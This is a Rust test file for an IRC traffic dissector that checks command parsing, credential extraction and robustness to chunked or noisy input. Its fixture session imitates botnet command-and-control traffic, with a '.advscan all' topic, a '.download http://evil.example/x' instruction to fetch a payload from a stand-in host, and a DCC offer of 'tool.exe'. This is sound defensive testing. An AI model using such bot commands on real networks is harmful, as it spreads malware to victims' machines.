use crate::dissect::testing::{Step, conn, cut, down, play, said, up};
use crate::model::event::{Credential, Irc};
use crate::model::{Dir, Event, Proto};
use proptest::prelude::*;

fn session() -> Vec<Step> {
    vec![
        up("CAP LS 302\r\nJOIN :\r\n"),
        down(":srv.example CAP * LS :sasl\r\n"),
        up("PASS s3cret\r\nNICK joe\r\nUSER joe 8 * :Joe de Marco\r\n"),
        down("@time=1 :srv.example 001 joe :Welcome\r\n"),
        up("JOIN #ops,#bots k1\r\n"),
        down(":joe!joe@host JOIN #ops\r\n:srv.example 332 joe #bots :.advscan all\r\n"),
        down(":boss!b@h PRIVMSG #bots :.download http://evil.example/x\r\n"),
        up("PRIVMSG NickServ :IDENTIFY joe hunter2\r\n"),
        up("PRIVMSG ann :\u{1}DCC SEND tool.exe 3221225985 5000 99\u{1}\r\n"),
        up("QUIT :bye\r\n"),
    ]
}

fn rows(events: &[Event]) -> Vec<&Irc> {
    events.iter().filter_map(|event| if let Event::Irc(row) = event { Some(&**row) } else { None }).collect()
}

fn logins(events: &[Event]) -> Vec<&Credential> {
    events.iter().filter_map(|event| if let Event::Credential(found) = event { Some(&**found) } else { None }).collect()
}

#[test]
fn who_joined_what_and_who_said_what_are_rows() {
    let (events, service) = play(conn(Proto::Tcp, 31_337), &session());
    let events: Vec<Event> = events.into_iter().map(|event| event.event).collect();
    assert_eq!(service, "irc");
    let told: Vec<_> = rows(&events)
        .iter()
        .map(|row| (row.command.as_deref().unwrap(), row.value.as_deref().unwrap_or(""), row.addl.as_deref().unwrap_or("")))
        .collect();
    assert_eq!(
        told,
        [
            ("NICK", "joe", ""),
            ("USER", "joe", "8 * Joede Marco "),
            ("JOIN", "#ops", " with channel key: 'k1'"),
            ("JOIN", "#bots", ""),
            ("TOPIC", "#bots", ".advscan all"),
            ("PRIVMSG", "#bots", ".download http://evil.example/x"),
            ("DCC", "#bots", ""),
            ("QUIT", "bye", ""),
        ]
    );
    let offer = rows(&events)[6];
    assert_eq!((offer.dcc_file_name.as_deref(), offer.dcc_file_size, offer.nick.as_deref()), (Some("tool.exe"), Some(99), Some("joe")));
    assert_eq!(rows(&events)[5].source.as_deref(), Some("boss"));
}

#[test]
fn secrets_are_logins_and_nothing_else() {
    let events = said(conn(Proto::Tcp, 6_667), &session());
    let found: Vec<_> = logins(&events).iter().map(|login| (login.user.as_deref(), login.secret.as_str(), login.success)).collect();
    assert_eq!(found, [(Some("joe"), "s3cret", Some(true)), (Some("joe"), "hunter2", None)]);
    let shown = format!("{:?}", rows(&events));
    assert!(!shown.contains("s3cret") && !shown.contains("hunter2"));
}

#[test]
fn after_starttls_nothing_is_read() {
    let steps = [up("NICK a\r\nUSER a 0 * :a\r\nSTARTTLS\r\n"), down(":srv 670 a :go\r\n"), up("PRIVMSG x :y\r\n")];
    assert_eq!(rows(&said(conn(Proto::Tcp, 6_667), &steps)).len(), 2);
}

#[test]
fn other_protocols_are_left_alone() {
    for text in ["GET / HTTP/1.1\r\n\r\n", "PASSIVE\r\n", "USER joe\r\nPASS x\r\n", ":not irc at all\r\n"] {
        let (events, service) = play(conn(Proto::Tcp, 9_999), &[up(text), down("+OK\r\n")]);
        assert!(events.iter().all(|event| !matches!(event.event, Event::Irc(_))) && service != "irc", "{text}");
    }
}

proptest! {
    #[test]
    fn any_chunking_gives_the_same_rows(sizes in proptest::collection::vec(1usize..40, 1..40)) {
        prop_assert_eq!(said(conn(Proto::Tcp, 6_667), &session()), said(conn(Proto::Tcp, 6_667), &cut(&session(), &sizes)));
    }

    #[test]
    fn any_bytes_and_losses_are_survived(parts in proptest::collection::vec((any::<bool>(), proptest::collection::vec(any::<u8>(), 0..60), 0usize..14), 0..60)) {
        let good = session();
        let mut steps = vec![up("NICK a\r\nUSER a 0 * :a\r\n")];
        for (orig, noise, pick) in parts {
            let dir = if orig { Dir::Orig } else { Dir::Resp };
            steps.push(good.get(pick).cloned().unwrap_or(Step::Data(dir, [noise, b"\r\n".to_vec()].concat())));
            if pick == 13 {
                steps.push(Step::Gap(dir, 9));
            }
        }
        let lines: usize = steps.iter().map(|step| if let Step::Data(_, bytes) = step { bytes.iter().filter(|&&b| b == b'\n' || b == b',').count() } else { 0 }).sum();
        prop_assert!(said(conn(Proto::Tcp, 6_667), &steps).len() <= 2 * lines);
    }
}
